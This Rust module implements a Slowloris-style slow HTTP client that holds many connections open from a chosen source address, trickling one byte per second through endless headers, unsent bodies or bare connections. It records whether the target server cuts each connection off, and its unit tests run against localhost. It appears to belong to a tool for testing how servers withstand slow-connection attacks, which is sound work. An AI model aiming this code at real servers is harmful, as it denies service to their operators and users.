//! Clients that open many connections and send a byte a second.

use std::{
    io,
    net::{Ipv4Addr, SocketAddrV4},
    time::Duration,
};

use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time::{Instant, interval_at, sleep_until, timeout_at},
};

use super::{
    outcome::{Fate, Sent},
    run::{AttackError, Clock},
};
use crate::target::Target;

/// The time between two bytes.
const BYTE_TIME: Duration = Duration::from_secs(1);
/// The longest that a connection may take to be opened.
const CONNECT_TIME_MAX: Duration = Duration::from_secs(2);

/// What comes at once, and what is repeated for ever: a head that never ends.
const HEAD: (&[u8], u8) = (b"GET /us/products HTTP/1.1\r\nhost: localhost\r\nx-slow: ", b'a');
/// The same for a body that does not come.
const BODY: (&[u8], u8) = (
    b"POST /auth/refresh HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n\
      content-length: 4096\r\n\r\n",
    b' ',
);
/// The same for a connection on which somebody is only there: not even the first line is whole.
const OPEN: (&[u8], u8) = (b"", b'\n');

/// Opens `count` connections and holds each until it is cut off or the time is over.
pub(super) async fn attack(
    source: Ipv4Addr,
    target: Target,
    count: u32,
    clock: &Clock,
    deadline: Instant,
) -> Result<Vec<Sent>, AttackError> {
    let mut held = JoinSet::new();
    let mut sent = Vec::new();
    for number in 0..count {
        if Instant::now() >= deadline {
            break;
        }
        let at_ms = clock();
        let socket = socket(source).map_err(|error| AttackError::Address(source, error))?;
        match open(socket, target).await {
            Some(stream) => {
                let (clock, kind) = (clock.clone(), [HEAD, BODY, OPEN][number as usize % 3]);
                held.spawn(async move {
                    let fate = hold(stream, kind, deadline).await;
                    let known_ms = clock();
                    Sent {
                        at_ms,
                        fate,
                        known_ms,
                    }
                });
            }
            None => sent.push(Sent {
                at_ms,
                fate: Fate::CutOff,
                known_ms: clock(),
            }),
        }
    }
    sent.extend(held.join_all().await);
    Ok(sent)
}

fn socket(source: Ipv4Addr) -> io::Result<TcpSocket> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddrV4::new(source, 0).into())?;
    Ok(socket)
}

async fn open(socket: TcpSocket, target: Target) -> Option<TcpStream> {
    let connected = socket.connect(target.socket().into());
    let connected = timeout_at(Instant::now() + CONNECT_TIME_MAX, connected).await;
    connected.ok().and_then(Result::ok)
}

/// Sends a byte a second. Any answer to a request that is not whole is a refusal, as is the end.
async fn hold<S>(mut stream: S, (beginning, byte): (&[u8], u8), deadline: Instant) -> Fate
where
    S: AsyncRead + AsyncWrite + Unpin,
{
    if stream.write_all(beginning).await.is_err() {
        return Fate::CutOff;
    }
    let mut ticks = interval_at(Instant::now() + BYTE_TIME, BYTE_TIME);
    let mut heard = [0; 512];
    loop {
        tokio::select! {
            _ = stream.read(&mut heard) => return Fate::CutOff,
            () = sleep_until(deadline) => return Fate::LetIn,
            _ = ticks.tick() => {}
        }
        if stream.write_all(&[byte]).await.is_err() {
            return Fate::CutOff;
        }
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use tokio::{io::duplex, net::TcpListener};

    use super::*;

    /// Everything that was sent in a minute to somebody who only listens.
    async fn sent_in_a_minute(kind: (&'static [u8], u8)) -> (Fate, Vec<u8>) {
        let (client, mut server) = duplex(1_024);
        let deadline = Instant::now() + Duration::from_millis(59_500);
        let held = tokio::spawn(hold(client, kind, deadline));
        let mut heard = Vec::new();
        server.read_to_end(&mut heard).await.unwrap();
        (held.await.unwrap(), heard)
    }

    #[tokio::test(start_paused = true)]
    async fn a_byte_a_second_is_sent_to_the_end() {
        for kind in [HEAD, BODY, OPEN] {
            let (fate, heard) = sent_in_a_minute(kind).await;
            let expected = [kind.0, &[kind.1; 59]].concat();
            assert_eq!((fate, heard), (Fate::LetIn, expected));
        }
    }

    #[tokio::test(start_paused = true)]
    async fn an_answer_and_the_end_are_refusals() {
        let deadline = Instant::now() + Duration::from_secs(60);
        let (client, server) = duplex(1_024);
        drop(server);
        assert_eq!(hold(client, OPEN, deadline).await, Fate::CutOff);
        let (client, mut server) = duplex(1_024);
        server.write_all(b"HTTP/1.1 408 Request Timeout").await.unwrap();
        assert_eq!(hold(client, HEAD, deadline).await, Fate::CutOff);
    }

    #[tokio::test]
    async fn connections_come_from_their_address_and_are_counted() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let target = Target::new("127.0.0.1".parse().unwrap(), port).unwrap();
        let source = Ipv4Addr::new(127, 0, 2, 9);
        let clock: Clock = Arc::new(|| 7);
        let deadline = Instant::now() + Duration::from_secs(60);
        let closing = async {
            for _ in 0..10 {
                let (_, peer) = listener.accept().await.unwrap();
                assert_eq!(peer.ip(), source);
            }
        };
        let (sent, ()) = tokio::join!(attack(source, target, 10, &clock, deadline), closing);
        let cut_off = Sent {
            at_ms: 7,
            fate: Fate::CutOff,
            known_ms: 7,
        };
        assert_eq!(sent.unwrap(), vec![cut_off; 10]);
    }
}
